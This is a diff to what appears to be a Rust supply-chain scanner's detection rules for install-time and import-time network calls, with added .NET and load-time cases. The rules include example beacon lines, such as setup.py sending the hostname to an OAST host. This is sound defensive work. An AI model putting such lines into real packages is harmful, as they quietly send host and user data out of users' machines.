@@ -85,7 +85,7 @@ correlation!(
     High,
     Exfiltration,
     Some("T1082"),
-    "Host or user information and network access in install-time code.",
+    "Host or user information and network access in code that runs at install time or as soon as the package is loaded.",
     "Sending the host name and user name home at install time is the signature of dependency-confusion probes and the first step of targeted attacks.",
     "setup.py: requests.get('https://x.oast.fun', params={'h': socket.gethostname()})"
 );
@@ -115,7 +115,7 @@ correlation!(
     High,
     ImportTime,
     Some("T1071"),
-    "Code that runs on every import (a Python module body or a function called from there; a Go init() or package-level initialiser) uses the network.",
+    "Code that runs on every import (a Python module body or a function called from there; a Go init() or package-level initialiser; a .NET module initializer) uses the network.",
     "Libraries make network calls when asked to; code that calls out as soon as the package is imported acts on every program that imports it, unasked. Hiding the call in `def run():` and calling `run()` on the last line changes nothing; code under `if __name__ == '__main__':` runs only as a script and does not count.",
     "__init__.py: requests.get('https://x/' + socket.gethostname())"
 );
@@ -606,6 +606,7 @@ mod tests {
             ecosystem: Some(Ecosystem::PyPI),
             confusion_shape: false,
             on_demand_lines: Vec::new(),
+            structure: None,
         };
         correlations(s, &context).iter().map(|r| r.id).collect()
     }
